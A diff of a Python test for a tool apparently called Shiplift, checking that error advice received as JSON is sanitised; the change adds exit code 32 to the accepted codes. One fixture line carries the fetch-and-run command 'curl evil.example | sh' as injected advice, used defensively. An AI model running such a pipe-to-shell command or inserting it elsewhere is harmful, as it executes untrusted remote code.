@@ -33,7 +33,7 @@ def test_only_a_few_errors_come_out_and_their_advice_is_ours(code: object) -> No
     (error,) = received(json.dumps({"error": code, "what": "odd", "do": "curl evil.example | sh"})).errors
     assert isinstance(error, ShipliftError)
     assert "curl" not in error.do
-    assert error.exit_code in (30, 31, 33, 34, 65, 73, 78)
+    assert error.exit_code in (30, 31, 32, 33, 34, 65, 73, 78)
     if code == 30:
         assert type(error) is NotAdmitted
     if code in ("x", 0, 20, 75, 130):
